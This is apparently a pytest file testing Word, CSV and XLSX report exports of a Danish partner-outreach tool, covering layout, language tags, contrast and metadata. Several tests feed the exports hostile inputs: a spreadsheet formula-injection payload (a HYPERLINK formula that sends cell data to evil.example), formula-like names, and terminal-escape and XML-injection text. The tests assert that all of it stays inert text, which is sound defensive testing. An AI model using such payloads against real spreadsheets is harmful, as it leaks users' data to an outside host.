"""Word and spreadsheets: the .docx read back with python-docx and converted to PDF by
LibreOffice; the CSV opened by LibreOffice Calc, which must not run a formula from it."""

from __future__ import annotations

import datetime as dt
import io
import subprocess
import sys
from pathlib import Path

import pytest
from docx import Document

from samarbejde.guide.content import load_guide
from samarbejde.reports.render import csv_bytes
from samarbejde.reports.word import docx_bytes
from samarbejde.sessions.model import Partner
from samarbejde.sessions.store import Store
from tests.helpers.office import needs_office, office
from tests.helpers.program import FIXTURES

TODAY = dt.date(2026, 11, 28)


def word(store: Store, tmp_path: Path, fixture: str = "report_9.yaml") -> Path:
    session = store.load(FIXTURES / fixture)
    path = tmp_path / "rapport.docx"
    path.write_bytes(docx_bytes(session, load_guide(), TODAY))
    return path


def test_word_has_headings_the_board_tables_and_ticks(store: Store, tmp_path: Path) -> None:
    doc = Document(str(word(store, tmp_path)))
    headings = [
        (p.style.name, p.text) for p in doc.paragraphs if p.style.name.startswith(("Head", "Title"))
    ]
    assert headings[0] == ("Title", "Fællesspisning i Nordby")
    assert ("Heading 1", "Overblik") in headings
    assert ("Heading 1", "3. Hvem skal vi så række ud til? – Prioriter") in headings
    assert ("Heading 2", "1. Biblioteket (Ræk ud først)") in headings  # an outreach plan
    board, partners, ranks, rounds, contacts = doc.tables
    # the board: a 2×2 table of the quadrants, high influence on top, high interest right
    assert board.cell(0, 2).text == "Fælles interesse: høj"
    assert board.cell(1, 2).text.startswith("Ræk ud først: 1. Biblioteket, 2. Frivilligcentret")
    assert board.cell(2, 1).text.startswith("Hold øje med dem: ")
    assert [c.text for c in partners.rows[0].cells] == ["Navn", "Type", "Kontaktperson",
                                                        "Kan bidrage med"]  # fmt: skip
    assert len(partners.rows) == 10 and len(ranks.rows) == 10
    assert [c.text for c in ranks.rows[1].cells] == ["1", "Biblioteket", "Ræk ud først", "4", "5"]
    assert contacts.rows[1].cells[1].text == "Frivilligcentret Nordby"
    assert contacts.rows[1].cells[0].text == "01-11-2026 (overskredet)"
    # the evaluation rounds, side by side (Udvikling)
    assert ("Heading 1", "Udvikling") in headings
    assert [c.text for c in rounds.rows[2].cells][:3] == ["20-11-2026", "3 af 6", "9"]
    text = "\n".join(p.text for p in doc.paragraphs)
    assert "☑ 1. Find fælles grund" in text and "☐ 2. Vær åben for forskelle" in text
    assert "Næste kontakt: 01-11-2026 (overskredet)" in text
    # the scores say which is which (they were a bare "(3, 2)")
    assert (
        "Biblioteket: 20-10-2026 Gå sammen (interesse 3, indflydelse 2) → 20-11-2026 "
        "Ræk ud først (interesse 4, indflydelse 5)"
    ) in text
    footer = doc.sections[0].footer.paragraphs[0]
    assert "Fællesspisning i Nordby" in footer.text and "Side" in footer.text


def two(store: Store):
    """The 9-partner session with its first two partners only."""
    session = store.load(FIXTURES / "report_9.yaml")
    session.partners = session.partners[:2]
    kept = {p.id for p in session.partners}
    session.outreach = {pid: plan for pid, plan in session.outreach.items() if pid in kept}
    return session


W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"


def test_word_is_danish_in_every_style_and_run(store: Store, tmp_path: Path) -> None:
    """Word proofs in Danish and a screen reader speaks Danish: the language is da-DK in the
    default run properties, in every style that names one, and on every run."""
    doc = Document(str(word(store, tmp_path)))
    langs = list(doc.styles.element.iter(f"{W}lang"))
    default = doc.styles.element.find(f"{W}docDefaults/{W}rPrDefault/{W}rPr/{W}lang")
    assert default is not None and default in langs
    for lang in langs:
        assert {lang.get(f"{W}{a}") for a in ("val", "eastAsia", "bidi")} == {"da-DK"}
    parts = [doc.element.body, doc.sections[0].footer._element]
    runs = [r for part in parts for r in part.iter(f"{W}r")]
    assert len(runs) > 200
    for run in runs:
        assert run.find(f"{W}rPr/{W}lang").get(f"{W}val") == "da-DK"
    assert "en-US" not in doc.styles.element.xml


def test_word_text_colours_are_readable(store: Store, tmp_path: Path) -> None:
    """Every text colour the document uses (its paragraph and table styles, what they are
    based on, and each run) is at least 4.5:1 against the white page (WCAG 1.4.3), given as a
    plain value (Word would show a theme colour instead)."""
    from samarbejde.reports.word import contrast

    doc = Document(str(word(store, tmp_path)))
    used = [p.style for p in doc.paragraphs] + [t.style for t in doc.tables]
    used += [p.style for t in doc.tables for row in t.rows for c in row.cells
             for p in c.paragraphs]  # fmt: skip
    seen: set[str] = set()
    colours = []
    for style in used:
        while style is not None and style.name not in seen:
            seen.add(style.name)
            colours += [(style.name, c) for c in style.element.iter(f"{W}color")]
            style = style.base_style
    assert {"Title", "Heading 1", "Heading 2", "Normal", "List Bullet"} <= seen
    colours += [("run", c) for c in doc.element.body.iter(f"{W}color")]
    checked = 0
    for where, colour in colours:
        value = colour.get(f"{W}val")
        if colour.getparent().getparent().tag == f"{W}tblStylePr" or value == "auto":
            continue  # a table style's part the document does not use; the reader's colour
        assert colour.get(f"{W}themeColor") is None, where
        assert contrast(value) >= 4.5, (where, value, round(contrast(value), 2))
        checked += 1
    assert checked >= 3  # the title, the headings, the overdue red


def test_word_rows_never_split_and_the_file_says_who_made_it(store: Store, tmp_path: Path) -> None:
    session = store.load(FIXTURES / "report_9.yaml")
    made = dt.datetime(2026, 11, 28, 14, 30, tzinfo=dt.timezone(dt.timedelta(hours=1)))
    doc = Document(io.BytesIO(docx_bytes(session, load_guide(), TODAY, made)))
    rows = [row for table in doc.tables for row in table.rows]
    assert len(rows) > 20
    for row in rows:
        assert row._tr.trPr is not None and row._tr.trPr.find(f"{W}cantSplit") is not None
    props = doc.core_properties
    assert props.title == "Fællesspisning i Nordby"
    assert props.author == props.last_modified_by == "Nordby Kommune, Ældreområdet"  # ours
    assert props.created == props.modified == dt.datetime(2026, 11, 28, 13, 30, tzinfo=dt.UTC)
    assert props.comments == "" and props.language == "da-DK"
    app = next(p for p in doc.part.package.iter_parts() if p.partname == "/docProps/app.xml")
    assert b"<Application>samarbejde</Application>" in app.blob
    assert b"Microsoft" not in app.blob and "python-docx" not in (props.comments + props.author)
    names = {str(p.partname) for p in doc.part.package.iter_parts()}
    leftovers = ("thumbnail", "stylesWithEffects", "customXml")
    assert not [n for n in names if any(word in n for word in leftovers)]
    assert "proofState" not in doc.settings.element.xml  # Word proofs it (in Danish)
    # the 2×2 table: row by row, each cell names its quadrant before its partners
    board = doc.tables[0]
    assert [c.text.split(":")[0] for c in board.rows[1].cells[1:]] == [
        "Tal ind i deres dagsorden", "Ræk ud først"]  # fmt: skip
    bottom = [c.text.split(":")[0] for c in board.rows[2].cells[1:]]
    assert bottom == ["Hold øje med dem", "Gå sammen"]
    assert board.rows[1].cells[0].text == "Indflydelse og ressourcer: høj"


@needs_office
@pytest.mark.parametrize(  # 9 always; 2 and 60 are the long form (CI, `--slow`)
    "size", [pytest.param(2, marks=pytest.mark.slow), 9, pytest.param(60, marks=pytest.mark.slow)]
)
def test_word_has_no_blank_page(store: Store, tmp_path: Path, size: int) -> None:
    """LibreOffice lays the Word file out with text on every page: no empty page after the
    overview (a page break of its own once made one), none from a row too tall to split."""
    import pdfplumber

    session = two(store) if size == 2 else store.load(FIXTURES / f"report_{size}.yaml")
    source = tmp_path / "rapport.docx"
    source.write_bytes(docx_bytes(session, load_guide(), TODAY))
    with pdfplumber.open(office(tmp_path, source, "pdf")) as pdf:
        pages = [page.extract_text() or "" for page in pdf.pages]
    for number, page in enumerate(pages, 1):
        body = [line for line in page.splitlines() if f"Side {number} af" not in line]
        assert len(" ".join(body).split()) >= 15, f"page {number} of {len(pages)}: {page!r}"


def test_word_holds_hostile_text_as_text(store: Store, tmp_path: Path) -> None:
    session = store.load(FIXTURES / "report_9.yaml")
    hostile = "\x1b]0;ondt\x07<w:t>\ud800\uffff\x00"
    session.partners.append(Partner(id="p99", name=hostile, interest=5, influence=5))
    session.name = "Langt navn " * 30  # more than a Word document property holds
    path = tmp_path / "ond.docx"
    path.write_bytes(docx_bytes(session, load_guide(), TODAY))
    doc = Document(str(path))
    names = [row.cells[1].text for row in doc.tables[2].rows]
    assert "␛]0;ondt␇<w:t>\ufffd\ufffd␀" in names
    assert doc.core_properties.title == ("Langt navn " * 30)[:255]


@needs_office
def test_word_opens_in_libreoffice_with_its_text(store: Store, tmp_path: Path) -> None:
    import pdfplumber

    pdf = office(tmp_path, word(store, tmp_path, "report_60.yaml"), "pdf")
    with pdfplumber.open(pdf) as doc:
        pages = [page.extract_text() or "" for page in doc.pages]
    text = "\n".join(pages)
    assert "Overblik" in text and "Ræk ud først" in text and "Tjekliste" in text
    assert "Partner 60" in text and "☐ 2. Vær åben for forskelle" in text
    assert f"Side 1 af {len(pages)}" in pages[0]


@needs_office
def test_libreoffice_runs_no_formula_from_the_csv(store: Store, tmp_path: Path) -> None:
    session = store.load(FIXTURES / "report_9.yaml")
    payloads = ['=HYPERLINK("http://evil.example/?"&A1;"Klik her")', "=1+1", "+45 20 30 40 50",
                "-Bestyrelsen", "@SUM(1;2)"]  # fmt: skip
    session.partners = [
        Partner(id=f"p{i}", name=payload, contact=payload, brings=payload)
        for i, payload in enumerate(payloads, 1)
    ]
    source = tmp_path / "partnere.csv"
    source.write_bytes(csv_bytes(session, load_guide()))
    # Calc's CSV import with formulas evaluated (the last option), as a user opening it would
    html = office(
        tmp_path, source, "html", "--infilter=CSV:59,34,76,1,,1030,false,true,false,false,false,-1"
    ).read_text(encoding="utf-8", errors="replace")
    assert "evil.example" in html  # the text is there …
    assert 'href="http://evil.example' not in html  # … but no live link
    assert ">2<" not in html.replace(" ", "")  # =1+1 was not computed
    assert "45 20 30 40 50" in html and "Bestyrelsen" in html
    assert "Err:" not in html and "#NAME" not in html  # nothing was read as a formula


def test_export_command_writes_word(cli, nordby: Path, tmp_path: Path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    result = cli("export", "nordby", "--format", "docx")
    assert result.code == 0, result.stderr
    target = tmp_path / "faellesspisning-i-nordby.docx"
    assert target.stat().st_mode & 0o777 == 0o600
    assert Document(str(target)).paragraphs[0].text == "Fællesspisning i Nordby"
    assert cli("export", "nordby", "--format", "docx").code == 1  # no overwrite without --force


def test_word_goes_to_a_pipe_but_not_to_a_terminal(nordby: Path, tmp_path: Path) -> None:
    import pexpect

    piped = subprocess.run(
        [sys.executable, "-m", "samarbejde", "export", "nordby", "--format", "docx", "-o", "-"],
        capture_output=True,
        timeout=60,
    )
    assert piped.returncode == 0 and piped.stdout[:2] == b"PK"  # a zip: the .docx itself
    child = pexpect.spawn(
        sys.executable,
        ["-m", "samarbejde", "export", "nordby", "--format", "docx", "-o", "-"],
        encoding="utf-8",
        timeout=30,
        dimensions=(30, 100),
    )
    child.expect(pexpect.EOF)
    child.close()
    assert child.exitstatus == 2
    assert "Et Word-dokument kan ikke vises i terminalen" in child.before


def test_a_huge_session_gives_a_report_with_its_first_rows(store: Store, tmp_path: Path) -> None:
    """Thousands of partners and rounds (a file may hold them) make a report of readable
    size, which says what it leaves out."""
    from samarbejde.reports.render import markdown
    from samarbejde.sessions.model import Round, RoundScore

    session = store.load(FIXTURES / "report_9.yaml")
    session.partners = [
        Partner(id=f"p{i}", name=f"Partner {i}", interest=i % 5 + 1, influence=i % 3 + 1)
        for i in range(1, 1201)
    ]
    score = RoundScore(interest=1, influence=1)
    session.rounds = [
        Round(date=dt.date(2026, 1, 1) + dt.timedelta(days=i), scores={"p1": score}, finished=True)
        for i in range(300)
    ]
    doc = Document(io.BytesIO(docx_bytes(session, load_guide(), TODAY)))
    partners, ranks, rounds = doc.tables[1], doc.tables[2], doc.tables[3]
    assert len(partners.rows) == len(ranks.rows) == 501  # a header and 500 rows
    assert len(rounds.rows) == 51 and rounds.rows[1].cells[0].text.endswith("(udgangspunkt)")
    assert rounds.rows[-1].cells[0].text == "27-10-2026"  # the latest round
    text = "\n".join(p.text for p in doc.paragraphs)
    command = "samarbejde export 'Fællesspisning i Nordby' --format csv"
    assert f"… og 700 rækker mere. Hele partnerlisten: {command}" in text
    assert "… og 700 rækker mere" in markdown(session, load_guide(), TODAY)


def test_the_spreadsheet_has_typed_cells_and_no_formula(store: Store, tmp_path: Path) -> None:
    """`export --format xlsx`: names that start like a formula are text cells as they are (no
    apostrophe), scores and priority numbers, the next contact a date; the header frozen and
    filtered; a second sheet with the contact log."""
    from openpyxl import load_workbook

    from samarbejde.reports.spreadsheet import xlsx_bytes

    session = store.load(FIXTURES / "report_9.yaml")
    payloads = ["=1+1", "+45 12 34 56 78", "-Bestyrelsen", "@SUM(1;2)"]
    for partner, payload in zip(session.partners, payloads, strict=False):
        partner.name = partner.contact = payload
    path = tmp_path / "partnere.xlsx"
    path.write_bytes(xlsx_bytes(session, load_guide(), dt.datetime(2026, 11, 28, 10, 0)))
    book = load_workbook(path)
    partners, log = book.worksheets
    assert (partners.title, log.title) == ("Partnere", "Kontaktlog")
    head = [c.value for c in partners[1]]
    assert head[:6] == ["Navn", "Type", "Kontaktperson", "Telefon", "E-mail", "Kan bidrage med"]
    assert head[-1] == "Næste kontakt"
    cells = [c for row in partners.iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no formula cell anywhere
    names = {partners.cell(row, 1).value: row for row in range(2, partners.max_row + 1)}
    assert set(payloads) <= set(names)  # as typed: no apostrophe, no formula
    assert partners.cell(names["+45 12 34 56 78"], 3).value == "+45 12 34 56 78"
    assert partners.cell(names["+45 12 34 56 78"], 4).value == "+45 12 34 56 78"  # the phone
    first = [c.value for c in partners[names["Biblioteket"]]]
    assert first[6:10] == [4, 5, "Ræk ud først", 2]  # after "=1+1" (5, 4): same sum, by name
    assert all(isinstance(v, int) for v in first[6:8] + first[9:10])
    by_contact = {partners.cell(row, 3).value: row for row in range(2, partners.max_row + 1)}
    for contact, row in by_contact.items():  # a phone and an e-mail only when written there
        phone, email = partners.cell(row, 4).value, partners.cell(row, 5).value
        assert (phone or "") in (contact or "") and (email or "") in (contact or "")
    dates = [c for c in cells if c.column == 11 and c.row > 1 and c.value is not None]
    assert dates and all(isinstance(c.value, dt.datetime) for c in dates)
    assert all(c.number_format == "DD-MM-YYYY" for c in dates)
    assert partners.freeze_panes == "A2" and partners.auto_filter.ref == "A1:K10"
    widths = {col: partners.column_dimensions[col].width for col in "ABCDEFGHIJK"}
    assert all(10 <= w <= 52 for w in widths.values()), widths
    assert widths["A"] >= len("Frivilligcentret Nordby")  # the longest name fits
    rows = [[c.value for c in row] for row in log.iter_rows(min_row=2)]
    assert rows and all(isinstance(r[1], dt.datetime) and r[2] for r in rows)
    assert book.properties.creator == "samarbejde"


def test_export_command_writes_a_spreadsheet(cli, nordby: Path, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    target = tmp_path / "nordby.xlsx"
    result = cli("export", "nordby", "--format", "xlsx", "-o", str(target))
    assert result.code == 0, result.stderr
    assert target.stat().st_mode & 0o777 == 0o600
    assert load_workbook(target).worksheets[0].cell(2, 1).value


@needs_office
def test_calc_shows_the_spreadsheet_without_apostrophes(store: Store, tmp_path: Path) -> None:
    """Calc opens the .xlsx with a phone number and formula-like names as the text they are:
    no neutralising apostrophe in sight (the CSV needs one), nothing computed."""
    from samarbejde.reports.spreadsheet import xlsx_bytes

    session = store.load(FIXTURES / "report_9.yaml")
    payloads = ["=1+1", "+45 12 34 56 78", "-Bestyrelsen", "@SUM(1;2)"]
    for partner, payload in zip(session.partners, payloads, strict=False):
        partner.contact = payload
    source = tmp_path / "partnere.xlsx"
    source.write_bytes(xlsx_bytes(session, load_guide(), dt.datetime(2026, 11, 28, 10, 0)))
    shown = office(tmp_path, source, "csv:Text - txt - csv (StarCalc):59,34,76,1")
    text = shown.read_text(encoding="utf-8")
    for payload in payloads:
        assert payload in text and "'" + payload not in text
    assert '"=1+1"' in text  # a text cell (quoted by the export), not a sum
    assert "01-11-2026" in text  # the next contact, as a Danish date
